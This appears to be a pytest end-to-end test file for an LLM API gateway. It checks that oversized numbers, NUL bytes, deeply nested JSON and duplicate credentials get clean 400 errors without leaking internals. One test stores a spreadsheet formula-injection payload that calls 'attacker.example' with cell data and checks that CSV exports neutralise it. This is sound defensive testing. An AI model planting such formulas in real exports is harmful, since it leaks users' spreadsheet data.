"""Out-of-range and oddly shaped input through the real gateway: a 400 in the client's dialect naming the field
and what is allowed, never a 5xx, never an exception's text; on SQLite and (when available) on PostgreSQL.

The cases are the hardening probe's reproductions; test_request_properties.py generates many more.
"""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import fake_models
from tests.e2e.keys_helpers import admin_post, generate
from tests.e2e.test_chat_openai_sdk import wait_for_usage
from tests.fakes.openai_provider import FakeOpenAI
from tests.harness import Gateway, start_gateway

#: Words of the internals that must never reach a client.
INTERNAL_WORDS = ("Traceback", "sqlalchemy", "asyncpg", "psycopg", "ConnectionRefusedError", "Unexpected <class",
                  "Exception", "Error:", "File \"")


def assert_clean_400(response: httpx.Response, param: str | None, *, anthropic: bool = False) -> None:
    assert response.status_code == 400, response.text
    text = response.text
    for word in INTERNAL_WORDS:
        assert word not in text, text
    body = response.json()
    if anthropic:
        assert body["type"] == "error" and body["error"]["type"] == "invalid_request_error", body
        if param:
            assert param in body["error"]["message"], body
    else:
        assert body["error"]["type"] == "invalid_request_error", body
        if param:
            assert body["error"]["param"] == param, body
    assert response.headers["x-request-id"].startswith("req_")


#: (path, body, the field the answer names)
ADMIN_CASES: list[tuple[str, dict[str, Any], str]] = [
    ("/key/generate", {"rpm_limit": 2**63}, "rpm_limit"),
    ("/key/generate", {"tpm_limit": 2**64}, "tpm_limit"),
    ("/key/generate", {"max_parallel_requests": 2**63}, "max_parallel_requests"),
    ("/key/generate", {"max_budget": 1e30}, "max_budget"),
    ("/key/generate", {"max_daily_spend": "1e400"}, "max_daily_spend"),
    ("/key/generate", {"duration": "9999999y"}, "duration"),
    ("/key/generate", {"duration": "99999999999999999999999d"}, "duration"),
    ("/key/generate", {"budget_duration": "99999999999d"}, "budget_duration"),
    ("/key/generate", {"key_alias": "a\x00b"}, "key_alias"),
    ("/key/generate", {"metadata": {"team\x00": "x"}}, "metadata"),
    ("/key/generate", {"models": ["fake-good\x00"]}, "models"),
    ("/team/new", {"team_alias": "\x00"}, "team_alias"),
    ("/team/new", {"tpm_limit": 2**63}, "tpm_limit"),
    ("/key/update", {"key": "key_\x00", "rpm_limit": 1}, "key"),
]


def check_admin_cases(gateway: Gateway) -> None:
    before = admin_get_json(gateway, "/key/list"), admin_get_json(gateway, "/team/list")
    for path, body, param in ADMIN_CASES:
        assert_clean_400(admin_post(gateway, path, body), param)
    nested = "[" * 300 + "]" * 300
    response = httpx.post(f"{gateway.base_url}/key/generate", content='{"metadata": {"a": ' + nested + "}}",
                          headers=gateway.admin(), timeout=10)
    assert_clean_400(response, None)
    response = httpx.get(f"{gateway.base_url}/key/list", params={"team_id": "a\x00b"}, headers=gateway.admin(),
                         timeout=10)
    assert_clean_400(response, None)
    assert (admin_get_json(gateway, "/key/list"), admin_get_json(gateway, "/team/list")) == before


def admin_get_json(gateway: Gateway, path: str) -> Any:
    response = httpx.get(f"{gateway.base_url}{path}", headers=gateway.admin(), timeout=10)
    assert response.status_code == 200, response.text
    return response.json()


def test_admin_input_out_of_range_is_a_400_naming_the_field(gateway: Gateway) -> None:
    check_admin_cases(gateway)


def test_the_largest_limits_and_amounts_are_accepted_and_served(gateway: Gateway) -> None:
    largest = generate(gateway, key_alias="largest", rpm_limit=2**63 - 1, tpm_limit=2**63 - 1,
                       max_parallel_requests=2**63 - 1, max_budget="9223372036854.775807",
                       max_daily_spend=9223372036854.775807, duration="100y")
    response = httpx.post(f"{gateway.base_url}/v1/chat/completions", timeout=20,
                          headers={"Authorization": f"Bearer {largest['key']}"},
                          json={"model": "fake-good", "messages": [{"role": "user", "content": "hi"}],
                                "max_tokens": 2**31 - 1})
    assert response.status_code == 200, response.text


def chat(gateway: Gateway, key: str, body: dict[str, Any] | str) -> httpx.Response:
    content = body if isinstance(body, str) else None
    return httpx.post(f"{gateway.base_url}/v1/chat/completions", headers={"Authorization": f"Bearer {key}"},
                      content=content, json=None if content is not None else body, timeout=20)


def messages(gateway: Gateway, key: str, body: dict[str, Any] | str) -> httpx.Response:
    content = body if isinstance(body, str) else None
    return httpx.post(f"{gateway.base_url}/v1/messages", headers={"x-api-key": key}, timeout=20,
                      content=content, json=None if content is not None else body)


@pytest.fixture(scope="module")
def budgeted_key(gateway: Gateway) -> str:
    return str(generate(gateway, key_alias="budgeted-input", max_budget=10)["key"])


@pytest.mark.parametrize("depth", [254, 255, 600, 1023, 1024, 2000])
def test_json_nested_hundreds_of_levels_is_a_400(gateway: Gateway, budgeted_key: str, depth: int) -> None:
    nested = "[" * depth + "]" * depth
    body = '{"model": "fake-good", "messages": [{"role": "user", "content": "hi"}], "tools": ' + nested + "}"
    assert_clean_400(chat(gateway, budgeted_key, body), None)
    body = '{"model": "fake-good", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}], "x": ' \
        + nested + "}"
    assert_clean_400(messages(gateway, budgeted_key, body), None, anthropic=True)


@pytest.mark.parametrize(("field", "value"), [("thinking", "enabled"), ("metadata", "user-1"),
                                               ("thinking", {"type": "enabled", "budget_tokens": "lots"}),
                                               ("metadata", {"user_id": 5}), ("output_format", "json")])
def test_anthropic_fields_of_the_wrong_shape_are_a_400_naming_them(gateway: Gateway, budgeted_key: str,
                                                                  field: str, value: Any) -> None:
    body = {"model": "fake-good", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}], field: value}
    assert_clean_400(messages(gateway, budgeted_key, body), field, anthropic=True)


@pytest.mark.parametrize("name", ["max_tokens", "max_completion_tokens"])
@pytest.mark.parametrize("value", [2**63, 2**63 - 1, 2**31, -1, 0])
def test_output_bounds_out_of_range_on_a_budgeted_key_are_a_400(gateway: Gateway, budgeted_key: str, name: str,
                                                                value: int) -> None:
    body = {"model": "fake-good", "messages": [{"role": "user", "content": "hi"}], name: value}
    assert_clean_400(chat(gateway, budgeted_key, body), name)
    if name == "max_tokens":
        anthropic = {"model": "fake-good", "messages": [{"role": "user", "content": "hi"}], name: value}
        assert_clean_400(messages(gateway, budgeted_key, anthropic), name, anthropic=True)


def test_the_largest_output_bound_on_a_small_budget_is_served_or_refused_by_the_budget(gateway: Gateway,
                                                                                       budgeted_key: str) -> None:
    body = {"model": "fake-good", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2**31 - 1}
    response = chat(gateway, budgeted_key, body)
    assert response.status_code in (200, 429), response.text
    if response.status_code == 429:
        assert response.json()["error"]["code"] == "budget_exceeded", response.text


def test_a_nul_in_a_model_name_path_or_query_is_a_400(gateway: Gateway, budgeted_key: str) -> None:
    assert_clean_400(chat(gateway, budgeted_key, {"model": "fake\x00good", "messages": [
        {"role": "user", "content": "hi"}]}), "model")
    response = httpx.post(f"{gateway.base_url}/openai/deployments/fake%00good/chat/completions", timeout=10,
                          headers={"api-key": budgeted_key}, json={"messages": [{"role": "user", "content": "hi"}]})
    assert_clean_400(response, None)
    response = httpx.get(f"{gateway.base_url}/spend/logs", params={"model": "a\x00"}, timeout=10,
                         headers={"Authorization": f"Bearer {budgeted_key}"})
    assert_clean_400(response, None)


def test_two_credentials_in_one_request_are_a_400(gateway: Gateway, budgeted_key: str) -> None:
    body = {"model": "fake-good", "messages": [{"role": "user", "content": "hi"}]}
    url = f"{gateway.base_url}/v1/chat/completions"
    two = [("Authorization", f"Bearer {budgeted_key}"), ("Authorization", "Bearer sk-someone-else")]
    response = httpx.post(url, headers=two, json=body, timeout=10)
    assert_clean_400(response, "authorization")
    assert "Authorization" in response.json()["error"]["message"]
    mixed = {"Authorization": f"Bearer {gateway.master_key}", "x-api-key": budgeted_key}
    anthropic = {**body, "max_tokens": 5}
    assert_clean_400(httpx.post(f"{gateway.base_url}/v1/messages", headers=mixed, json=anthropic, timeout=10),
                     "x-api-key", anthropic=True)
    assert_clean_400(httpx.get(f"{gateway.base_url}/key/list", headers=[
        ("Authorization", f"Bearer {gateway.master_key}"), ("Authorization", "Bearer x")], timeout=10),
        "authorization")
    same = {"Authorization": f"Bearer {budgeted_key}", "x-api-key": budgeted_key}
    assert httpx.post(url, headers=same, json=body, timeout=20).status_code == 200


def test_csv_exports_neutralise_formulas(gateway: Gateway) -> None:
    alias = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
    key = generate(gateway, key_alias=alias)
    served = chat(gateway, key["key"], {"model": "fake-good", "messages": [{"role": "user", "content": "hi"}]})
    assert served.status_code == 200
    wait_for_usage(gateway, served.headers["x-request-id"])
    exported = httpx.get(f"{gateway.base_url}/spend/logs", params={"format": "csv", "key_id": key["key_id"]},
                         headers=gateway.admin(), timeout=10)
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert rows and {r["key_alias"] for r in rows} == {"'" + alias}
    # The dashboard's export is the same writer.
    with httpx.Client(base_url=gateway.base_url, timeout=10) as browser:
        token = browser.get("/ui/login").text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
        assert browser.post("/ui/login", data={"csrf_token": token, "api_key": gateway.master_key}).status_code == 303
        page = browser.get("/ui/usage.csv", params={"key_id": key["key_id"]})
    rows = list(csv.DictReader(io.StringIO(page.text, newline="")))
    assert rows and {r["key_alias"] for r in rows} == {"'" + alias}


# -- PostgreSQL: a NUL is what its text columns refuse ------------------------------------------------------------

PG_URL = os.environ.get("SWITCHBOARD_TEST_POSTGRES_URL", "")


@pytest.fixture(scope="module")
def pg_gateway(tmp_path_factory: pytest.TempPathFactory, fake_openai: tuple[FakeOpenAI, str]) -> Iterator[Gateway]:
    if not PG_URL:
        pytest.skip("needs PostgreSQL: set SWITCHBOARD_TEST_POSTGRES_URL")
    from tests.e2e.test_billing_postgres import drop_database, fresh_database

    auth_dsn, auth_db = fresh_database()
    billing_dsn, billing_db = fresh_database()
    tmp: Path = tmp_path_factory.mktemp("pg-input")
    gw = start_gateway(tmp, fake_models(fake_openai[1]))
    try:
        gw.processes["auth"].terminate()
        gw.processes["billing"].terminate()
        gw.start_service("auth", {"SWITCHBOARD_DATABASE_URL": auth_dsn})
        gw.start_service("billing", {"SWITCHBOARD_DATABASE_URL": billing_dsn})
        gw.wait_ready()
        yield gw
    finally:
        gw.stop()
        drop_database(auth_db)
        drop_database(billing_db)


@pytest.mark.postgres
def test_out_of_range_input_on_postgresql_is_a_400_too(pg_gateway: Gateway) -> None:
    check_admin_cases(pg_gateway)
    key = generate(pg_gateway, key_alias="pg-input")["key"]
    assert_clean_400(chat(pg_gateway, key, {"model": "fake\x00good", "messages": [
        {"role": "user", "content": "hi"}]}), "model")
    response = httpx.get(f"{pg_gateway.base_url}/spend/logs", params={"key_id": "key_\x00"}, timeout=10,
                         headers=pg_gateway.admin())
    assert_clean_400(response, None)
